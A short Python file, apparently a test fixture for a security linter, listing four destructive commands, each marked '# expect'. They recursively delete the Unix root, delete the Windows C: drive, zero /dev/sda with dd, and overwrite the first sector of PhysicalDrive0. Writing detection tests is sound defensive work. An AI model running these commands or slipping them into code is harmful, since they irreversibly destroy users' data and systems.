import os
import subprocess

os.system("rm -rf --no-preserve-root /")  # expect
subprocess.run("rd /s /q C:\\", shell=True)  # expect
subprocess.call(["dd", "if=/dev/zero", "of=/dev/sda"])  # expect
open("\\\\.\\PhysicalDrive0", "wb").write(b"0" * 512)  # expect
